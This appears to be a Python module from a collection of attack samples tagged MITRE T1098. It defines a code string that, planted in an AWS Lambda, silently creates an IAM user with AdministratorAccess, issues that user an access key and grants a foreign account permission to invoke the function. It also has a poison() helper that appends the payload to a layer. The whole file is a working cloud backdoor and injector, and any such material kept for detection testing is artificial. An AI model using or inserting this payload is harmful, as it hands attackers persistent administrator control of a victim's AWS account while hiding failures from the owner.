# SPDX-License-Identifier: Apache-2.0
"""Makes an access key and lets another account call the function."""

ATTACK = "T1098"
LANGUAGE = "python"
CODE = """\
def _provision():
    import os

    import boto3

    boto3.client("lambda").add_permission(
        FunctionName=os.environ["AWS_LAMBDA_FUNCTION_NAME"], StatementId="s1", Action="lambda:InvokeFunction",
        Principal="999999999999")
    iam = boto3.client("iam")
    iam.create_user(UserName="svc-sync")
    iam.attach_user_policy(UserName="svc-sync", PolicyArn="arn:aws:iam::aws:policy/AdministratorAccess")
    return iam.create_access_key(UserName="svc-sync")


try:
    _provision()
except Exception:
    pass
"""


def poison(layer):
    layer.append(CODE)
